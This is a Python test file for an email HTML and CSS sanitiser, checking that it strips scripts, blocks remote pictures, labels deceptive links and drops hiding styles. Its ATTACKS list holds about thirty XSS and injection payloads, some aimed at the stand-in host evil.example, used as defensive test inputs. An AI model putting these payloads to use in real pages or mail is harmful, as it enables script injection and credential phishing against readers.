import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rooftree.platform.mail.rules.safe_html import MOST_LINKS, TooMuchToShow, safe_html
from rooftree.platform.mail.rules.safe_styles import safe_style

OWN = {"logo@council.example": "/mail/pictures/token/"}
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT/XSS SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)><p onclick='alert(1)'>words</p>",
    "<a href=javascript:alert(1)>words</a>",
    "<a href='&#106;ava\tscript&colon;alert(1)'>words</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>words</a>",
    "<a href='vbscript:x'>words</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:1'>x</a></svg>",
    "<math href='javascript:alert(1)'>x</math>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href='http://evil.example/'><a href='/x'>words</a>",
    "<form action='http://evil.example'><input name=password><button>Go</button></form>",
    "<p style='background:url(http://evil.example/x)'>words</p>",
    "<p style='width:expression(alert(1));behavior:url(x)'>words</p>",
    "<p style='color:red;background-color:u\\72l(http://evil.example)'>words</p>",
    "<style>@import 'http://evil.example/x.css';</style>words",
    "<link rel=stylesheet href=http://evil.example/x.css>words",
    "<iframe src=http://evil.example srcdoc='<script>alert(1)</script>'></iframe>words",
    "<frameset><frame src=http://evil.example></frameset>",
    "<object data=http://evil.example></object><embed src=http://evil.example>words",
    "<video src=http://evil.example poster=http://evil.example/p><source src=x></video>words",
    "<img srcset='http://evil.example/x 2x' src='http://evil.example/y'>",
    "<table background='http://evil.example/x'><tr><td background='x'>words</td></tr></table>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<p title='\"><img src=x onerror=alert(1)>'>words</p>",
    "<!--><img src=x onerror=alert(1)>-->words",
    "<a href='http://evil.example' target=_blank ping='http://evil.example/ping'>words</a>",
]
ALLOWED = {"style", "dir", "lang", "title", "align", "href", "src", "alt", "width", "height"}
ALLOWED |= {"rel", "class", "color", "face", "size", "border", "bgcolor", "valign", "start", "type"}
ALLOWED |= {"cellpadding", "cellspacing", "colspan", "rowspan"}


class Tags(HTMLParser):
    def __init__(self, html):
        super().__init__()
        self.seen = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.seen.append((tag, dict(attrs)))


def assert_harmless(html):
    for tag, attrs in Tags(html).seen:
        assert tag not in {"script", "style", "svg", "math", "meta", "base", "form", "input"}, html
        assert tag not in {"iframe", "frame", "object", "embed", "link", "video", "button"}, html
        assert set(attrs) <= ALLOWED, html
        if tag == "img":
            assert attrs.get("src") in OWN.values(), html
        href = attrs.get("href") or "https:"
        assert re.match(r"(https?|mailto|tel):", href), html
        style = attrs.get("style") or ""
        assert not re.search(r"url|expression|import|\\|/\*|position|display", style), html


class SafeHtml:
    @pytest.mark.parametrize("attack", ATTACKS)
    def test_disarms(self, attack):
        assert_harmless(safe_html(f"<p>Before</p>{attack}<p>After</p>", OWN))

    @pytest.mark.parametrize("attack", [each for each in ATTACKS if "words" in each])
    def test_keeps_the_words_beside_an_attack(self, attack):
        assert "words" in safe_html(attack, OWN)

    @given(
        st.lists(st.sampled_from([*ATTACKS, "<p>", "</p>", "<b>", "<!--", "-->", '"', "'", "<"]))
    )
    def test_disarms_whatever_is_put_together(self, pieces):
        assert_harmless(safe_html("".join(pieces), OWN))

    @given(st.text())
    def test_takes_any_text(self, text):
        assert_harmless(safe_html(text, OWN))

    def test_drops_a_style_that_would_hide_everything(self):
        hidden = "<style>* { display: none }</style><div style='display:none;opacity:0'>Words</div>"
        assert safe_html(hidden, {}) == "<div>Words</div>"

    def test_closes_up_a_page_of_nothing(self):
        blank = f"<p>Top</p>{'<br>' * 5000}<p>Below</p>"
        assert safe_html(blank, {}).count("<br>") == 10

    def test_shows_a_picture_that_came_with_the_mail(self):
        shown = safe_html("<img src='cid:logo%40council.example' alt='Logo'>", OWN)
        assert shown == '<img src="/mail/pictures/token/" alt="Logo">'

    @pytest.mark.parametrize(
        ("source", "words"),
        [
            ("https://track.example.org/p.gif", "Picture on track.example.org, not loaded: Plan"),
            ("//track.example.org/p.gif", "Picture elsewhere, not loaded: Plan"),
            ("cid:gone@x", "A picture that belongs here did not come with the mail: Plan"),
            ("data:image/png;base64,AA", "A picture written into the text is not shown"),
        ],
    )
    def test_says_what_stands_in_the_place_of_a_picture(self, source, words):
        shown = safe_html(f"<img src='{source}' alt='Plan'>", OWN)
        assert words in shown
        assert "<img" not in shown

    @pytest.mark.parametrize(
        ("link", "words"),
        [
            ("<a href='http://evil.example/x'>https://council.example/x</a>", "[really leads to evil.example]"),
            ("<a href='http://evil.example/x'>www.council.example</a>", "[really leads to evil.example]"),
            ("<a href='http://council.example@evil.example/'>council.example</a>", "[really leads to evil.example]"),
            ("<a href='https://évil.example/'>here</a>", "[xn--vil-9la.example]"),
            ("<a href='https://council.example/x'>here</a>", "[council.example]"),
            ("<a href='mailto:x@evil.example'>help@council.example</a>", "[really leads to x@evil.example]"),
        ],
    )  # fmt: skip
    def test_says_where_a_link_leads(self, link, words):
        assert words in safe_html(link, {})

    def test_adds_nothing_to_a_link_that_says_where_it_leads(self):
        link = '<a href="https://www.council.example/a">council.example/a</a>'
        rel = ' rel="noopener noreferrer"'
        assert safe_html(link, {}) == link.replace('/a">', f'/a"{rel}>')

    def test_opens_no_window(self):
        shown = safe_html(
            "<a href='https://a.example' target='_blank' rel='opener'>a.example</a>", {}
        )
        assert "target" not in shown
        assert 'rel="noopener noreferrer"' in shown

    def test_gives_up_on_more_links_than_a_person_writes(self):
        link = "<a href='https://a.example'>a.example</a>"
        assert safe_html(link * MOST_LINKS, {}).count("<a ") == MOST_LINKS
        with pytest.raises(TooMuchToShow):
            safe_html(link * (MOST_LINKS + 1), {})

    def test_gives_up_on_ten_megabytes(self):
        with pytest.raises(TooMuchToShow):
            safe_html("<p>words</p>" * 900_000, {})


class SafeStyle:
    @pytest.mark.parametrize(
        ("style", "kept"),
        [
            ("color: red; font-weight: bold", "color:red;font-weight:bold"),
            ("border: 1px solid #ccc; padding: 4px 8px", "border:1px solid #ccc;padding:4px 8px"),
            ("color: rgb(1, 2, 3)", "color:rgb(1, 2, 3)"),
            ("font-size: 0; color: blue", "color:blue"),
            ("font-size: 1px", ""),
            ("font-size: 14.5pt", "font-size:14.5pt"),
            ("margin-left: -9999px", ""),
            ("margin: 4000px 0", ""),
            ("position: fixed; top: 0; z-index: 9", ""),
            ("display: none; visibility: hidden; opacity: 0", ""),
            ("background-color: url(http://x)", ""),
            ("color: var(--x); width: calc(100% + 1px)", ""),
            ("text-indent: -999em; line-height: 0; height: 0; overflow: hidden", ""),
            ("", ""),
        ],
    )
    def test_keeps_what_neither_loads_nor_hides(self, style, kept):
        assert safe_style(style) == kept
